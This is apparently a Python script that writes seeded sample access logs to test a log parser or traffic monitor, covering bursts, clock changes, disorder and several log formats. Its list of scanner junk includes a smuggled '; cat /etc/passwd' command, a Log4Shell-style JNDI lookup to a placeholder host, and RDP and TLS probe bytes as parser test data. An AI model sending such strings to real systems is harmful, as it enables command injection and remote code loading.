"""Writes the sample logs beside itself: seeded, the same bytes at every run. ``make samples``."""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).parent
SECTIONS = ("/pages", "/api", "/images", "/login", "/search", "/static", "/", "/feed.xml", "/users", "/cart")
LEAVES = ("create", "list?page=2", "17", "logo.png", "style.css", "index.html", "a/b/c")
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Safari/604.1",
    "curl/8.5.0",
    "Examplebot/2.1 (+http://bot.example/)",
)


class Chance:
    """Choices built on ``random()`` alone, the one method whose sequence Python keeps across versions."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)

    def below(self, n: int) -> int:
        """Return one of 0 to n - 1."""
        return int(self._random.random() * n)

    def of(self, items: Sequence[str]) -> str:
        """Return one of ``items``, all alike."""
        return items[self.below(len(items))]

    def skewed(self, items: Sequence[str]) -> str:
        """Return one of ``items``, the first ones more often."""
        return items[int(self._random.random() ** 2 * len(items))]

    def path(self) -> str:
        """Return a path: a section, mostly with something under it."""
        section = self.skewed(SECTIONS)
        return section if "." in section or section == "/" else f"{section}/{self.of(LEAVES)}"

    def client(self) -> str:
        """Return an address for documentation, of either family."""
        return f"192.0.2.{1 + self.below(40)}" if self.below(8) else f"2001:db8::{1 + self.below(15):x}"


def stamp(moment: datetime) -> str:
    """Write the time as ``%t`` does."""
    return moment.strftime("%d/%b/%Y:%H:%M:%S %z")


def common(chance: Chance, moment: datetime, path: str | None = None) -> str:
    """Write one line of Common Log Format."""
    method = chance.skewed(("GET", "GET", "GET", "POST", "HEAD"))
    status = chance.skewed(("200", "200", "200", "304", "302", "404", "500"))
    size = "-" if status in {"304", "302"} else str(200 + chance.below(20000))
    return f'{chance.client()} - - [{stamp(moment)}] "{method} {path or chance.path()} HTTP/1.1" {status} {size}'


def combined(chance: Chance, moment: datetime) -> str:
    """Write one line of combined format."""
    referer = chance.of(("-", "https://www.example.com/", "https://search.example/?q=tap"))
    return f'{common(chance, moment)} "{referer}" "{chance.of(AGENTS)}"'


def quiet_day() -> Iterator[str]:
    """A hit about every minute for a day: no alert."""
    chance, moment = Chance(1), datetime(2024, 3, 5, tzinfo=UTC)
    while moment < datetime(2024, 3, 6, tzinfo=UTC):
        yield combined(chance, moment)
        moment += timedelta(seconds=1 + chance.below(120))


def two_alerts() -> Iterator[str]:
    """A quarter of an hour at 4 a second with two bursts at 30 a second, of 2 minutes and of 1."""
    chance, start = Chance(2), datetime(2024, 3, 5, 12, tzinfo=UTC)
    for second in range(900):
        burst = 240 <= second < 360 or 630 <= second < 690
        for _ in range(30 if burst else 3 + chance.below(3)):
            path = f"/login/{chance.of(LEAVES)}" if burst and chance.below(3) else None
            yield common(chance, start + timedelta(seconds=second), path)


def equality() -> Iterator[str]:
    """Exactly 10 a second for five minutes, but for one second of 11; then silence and a last hit."""
    chance, start = Chance(3), datetime(2024, 3, 5, 12, tzinfo=UTC)
    for second in range(300):
        for _ in range(11 if second == 150 else 10):
            yield common(chance, start + timedelta(seconds=second))
    yield common(chance, start + timedelta(seconds=600))


def disorder() -> Iterator[str]:
    """Lines up to 4 s out of order (within the default lateness), and a few that come 8 to 300 s late."""
    chance, start = Chance(4), datetime(2024, 3, 5, 12, tzinfo=UTC)
    arrivals = []
    for number in range(2700):
        second = number // 9
        delay = chance.below(5) if chance.below(100) else 8 + chance.below(293)
        arrivals.append((second + delay, number, common(chance, start + timedelta(seconds=second))))
    for _, _, line in sorted(arrivals):
        yield line


def zone_change() -> Iterator[str]:
    """The night of 27 Oct 2024 in Paris: at 03:00 +0200 the clock goes back to 02:00 +0100, traffic goes on."""
    chance, start = Chance(5), datetime(2024, 10, 27, 0, 45, tzinfo=UTC)
    for second in range(0, 1800, 2):
        moment = start + timedelta(seconds=second)
        hours = 2 if moment < datetime(2024, 10, 27, 1, tzinfo=UTC) else 1
        yield common(chance, moment.astimezone(timezone(timedelta(hours=hours))))


JUNK = (
    '192.0.2.66 - - [{t}] "-" 408 -',
    '192.0.2.66 - - [{t}] "" 400 0',
    '192.0.2.66 - - [{t}] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 226 "-" "-"',
    '192.0.2.66 - - [{t}] "\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr" 400 226 "-" "-"',
    '192.0.2.66 - - [{t}] "SSH-2.0-Go" 400 226 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /old" 200 12 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /a b c.html HTTP/1.1" 404 0 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /\\"quoted\\" HTTP/1.1" 404 0 "-" "x\\"y\\\\"',
    '192.0.2.66 - - [{t}] "GET //double/slash HTTP/1.1" 404 0 "-" "-"',
    '192.0.2.66 - - [{t}] "GET http://192.0.2.1:8080/x/y?z=/w HTTP/1.1" 404 0 "-" "-"',
    '192.0.2.66 - - [{t}] "CONNECT mail.example:25 HTTP/1.1" 405 0 "-" "-"',
    '192.0.2.66 - - [{t}] "OPTIONS * HTTP/1.0" 200 0 "-" "-"',
    '192.0.2.66 - ; cat /etc/passwd [S] x [{t}] "GET / HTTP/1.1" 401 0 "-" "-"',
    '192.0.2.66 - "" [{t}] "GET / HTTP/1.1" 401 0 "-" "-"',
    'fe80::1%eth0 - DOMAIN\\name [{t}] "PROPFIND /dav/ HTTP/1.1" 207 99 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /${{jndi:ldap://x.example/a}} HTTP/1.1" 404 5000000000 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /esc\x1b[2J\x07 HTTP/1.1" 404 0 "-" "\u202e"',
    '192.0.2.66 - - [{t}] "GET /latin\udce9 HTTP/1.1" 404 0 "-" "-"',
    '192.0.2.66 - - [{t}] "GET / HTTP/1.1" 000 - "-" "-"',
    '192.0.2.66 - - [05/Mar/2024:02:59:60 +0000] "GET /leap HTTP/1.1" 200 1',
    '192.0.2.66 - - [30/Feb/2024:03:00:00 +0000] "GET /no-such-day HTTP/1.1" 200 1',
    '192.0.2.66 - - [05/Mär/2024:03:00:00 +0000] "GET /no-such-month HTTP/1.1" 200 1',
    '10.0.0.1, 10.0.0.2 - - [{t}] "GET /forwarded HTTP/1.1" 200 1 "-" "-"',
    '192.0.2.66 - - [{t}] "GET /cut HTTP/1.1" 200 1 "-" "Mozil',
    '192.0.2.66 - - [{t}] "GET /neg HTTP/1.1" 200 -5',
    '192.0.2.66 - - [{t}] "GET /one HTTP/1.1" 200 1 "-" "-"192.0.2.66 - - [{t}] "GET /two HTTP/1.1" 200 1 "-" "-"',
    "",
    "not a log line at all",
    '192.0.2.66 - - [{t}] "GET /crlf HTTP/1.1" 200 7\r',
)


def attack_junk() -> Iterator[str]:
    """What scanners send: no requests, TLS hellos, quotes, control bytes, cut and run-together records."""
    chance, moment = Chance(6), datetime(2024, 3, 5, 3, tzinfo=UTC)
    for _ in range(12):
        for line in JUNK:
            moment += timedelta(seconds=chance.below(3))
            yield line.format(t=stamp(moment))
            yield combined(chance, moment)


def vhost_combined() -> Iterator[str]:
    """Apache's vhost_combined: three sites on one server."""
    chance, moment = Chance(7), datetime(2024, 3, 5, 12, tzinfo=UTC)
    for _ in range(1500):
        moment += timedelta(seconds=chance.below(2))
        site = chance.skewed(("my.site.com:80", "shop.example:443", "[2001:db8::5]:8080"))
        yield f"{site} {combined(chance, moment)}"


def sniffer() -> Iterator[str]:
    """What the sniffer writes: absolute form, escapes, requests without an answer, a tunnel, HTTP/0.9."""
    chance, moment = Chance(8), datetime(2024, 3, 5, 12, tzinfo=UTC)
    odd = (
        '192.0.2.7 - - [{t}] "GET http://my.site.com/slow HTTP/1.1" - -',
        '192.0.2.7 - - [{t}] "CONNECT mail.example:443 HTTP/1.1" 200 -',
        '192.0.2.7 - - [{t}] "OPTIONS * HTTP/1.1" 204 -',
        '192.0.2.7 - - [{t}] "GET http://192.0.2.80:8080/" - 512',
        '192.0.2.7 - alice [{t}] "GET http://my.site.com/a\\"b\\\\c\\x1b HTTP/1.1" 404 196',
    )
    for number in range(1500):
        moment += timedelta(seconds=chance.below(2))
        if number % 50 == 49:
            yield chance.of(odd).format(t=stamp(moment))
        else:
            yield common(chance, moment, f"http://{chance.skewed(('my.site.com', 'api.example:8080'))}{chance.path()}")


def brief() -> Iterator[str]:
    """The trace of the brief: three sites, POSTs of 1,000 bytes, and an empty answer that lets the silence be seen."""
    seconds = {
        "bing.fr": (24, 26, 27, 29, 30, 32, 34, 35, 37, 39),
        "bing.it": (24, 26, 28, 29, 31, 32, 34, 35, 37, 39),
        "bing.de": (25, 26, 28, 29, 31, 32, 34, 36, 37, 39),
    }
    minute = datetime(2021, 10, 25, 23, 55, tzinfo=UTC)
    for second, site in sorted((second, site) for site, seen in seconds.items() for second in seen):
        moment = stamp(minute + timedelta(seconds=second))
        yield f'192.0.2.9 - - [{moment}] "POST http://{site}/some/path HTTP/1.1" 200 1000'
    yield f'192.0.2.9 - - [{stamp(minute + timedelta(seconds=62))}] "POST http://bing.fr/some/path HTTP/1.1" 200 0'


SAMPLES = (quiet_day, two_alerts, equality, disorder, zone_change, attack_junk, vhost_combined, sniffer, brief)


def render(sample: object) -> bytes:
    """Write one sample's lines as the bytes of its file."""
    return "".join(f"{line}\n" for line in sample()).encode("utf-8", "surrogateescape")  # type: ignore[operator]


def main() -> None:
    """Write every sample."""
    for sample in SAMPLES:
        (HERE / f"{sample.__name__}.log").write_bytes(render(sample))


if __name__ == "__main__":
    main()
